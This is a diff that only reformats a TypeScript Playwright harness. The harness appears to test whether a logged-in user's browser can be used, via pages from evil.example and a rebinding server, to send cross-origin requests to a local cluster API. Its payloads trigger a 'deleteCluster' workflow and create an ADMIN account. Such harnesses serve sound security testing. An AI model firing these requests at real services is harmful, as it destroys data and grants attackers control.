@@ -46,7 +46,11 @@ const paths = ({ taskId, clusterId, hostId, firstSubtaskId }: Target): readonly 
 const bodies = ({ taskId }: Target): readonly string[] => [
   '',
   '{}',
-  JSON.stringify({ workflowType: { name: 'deleteCluster' }, taskQueue: { name: 'obflow' }, input: [{ taskId }] }),
+  JSON.stringify({
+    workflowType: { name: 'deleteCluster' },
+    taskQueue: { name: 'obflow' },
+    input: [{ taskId }],
+  }),
   JSON.stringify({ username: 'eve', password: 'Eves-words-12', roles: ['ADMIN'] }),
 ]
 
@@ -56,10 +60,15 @@ interface Plan {
   readonly bodies: readonly string[]
 }
 
-async function ownServer(): Promise<{ readonly port: number; readonly seen: string[]; close(): void }> {
+async function ownServer(): Promise<{
+  readonly port: number
+  readonly seen: string[]
+  close(): void
+}> {
   const seen: string[] = []
   const server = createServer((incoming, reply) => {
-    if (incoming.method !== 'GET') seen.push(`${incoming.method} ${incoming.headers['content-type'] ?? ''}`)
+    if (incoming.method !== 'GET')
+      seen.push(`${incoming.method} ${incoming.headers['content-type'] ?? ''}`)
     reply.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><body>evil')
   })
   server.on('upgrade', (_, socket) => {
@@ -68,10 +77,18 @@ async function ownServer(): Promise<{ readonly port: number; readonly seen: stri
   })
   server.listen(0, '127.0.0.1')
   await once(server, 'listening')
-  return { port: z.object({ port: z.number() }).parse(server.address()).port, seen, close: () => void server.close() }
+  return {
+    port: z.object({ port: z.number() }).parse(server.address()).port,
+    seen,
+    close: () => void server.close(),
+  }
 }
 
-async function run(page: Page, name: 'attackFromPage' | 'attackRebound', plan: Plan): Promise<unknown> {
+async function run(
+  page: Page,
+  name: 'attackFromPage' | 'attackRebound',
+  plan: Plan,
+): Promise<unknown> {
   await page.evaluate(await readFile(join(import.meta.dirname, 'page.js'), 'utf8'))
   return page.evaluate(`globalThis.${name}(${JSON.stringify(plan)})`)
 }
@@ -91,14 +108,25 @@ async function rebound(context: BrowserContext, port: number, plan: Plan): Promi
 
 /** Lets a stranger's pages loose in the browser of a user who is logged in. */
 export async function attackByPages(victim: Victim): Promise<PageReport> {
-  const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', headless: true, args: chrome })
+  const browser = await chromium.launch({
+    executablePath: '/usr/bin/chromium',
+    headless: true,
+    args: chrome,
+  })
   const own = await ownServer()
   try {
     const context = await browser.newContext()
     const login = await context.newPage()
-    const remembered = await login.goto(`http://${victim.user}:${victim.password}@127.0.0.1:${victim.api}/api/v2/ob/clusters`)
-    if (remembered?.status() !== 200) throw new Error(`the login of the victim answers ${remembered?.status()}`)
-    const plan = { ports: [...victim.ports, own.port], paths: paths(victim), bodies: bodies(victim) }
+    const remembered = await login.goto(
+      `http://${victim.user}:${victim.password}@127.0.0.1:${victim.api}/api/v2/ob/clusters`,
+    )
+    if (remembered?.status() !== 200)
+      throw new Error(`the login of the victim answers ${remembered?.status()}`)
+    const plan = {
+      ports: [...victim.ports, own.port],
+      paths: paths(victim),
+      bodies: bodies(victim),
+    }
     const page = await context.newPage()
     await page.goto(`http://evil.example:${own.port}/`)
     await run(page, 'attackFromPage', plan)
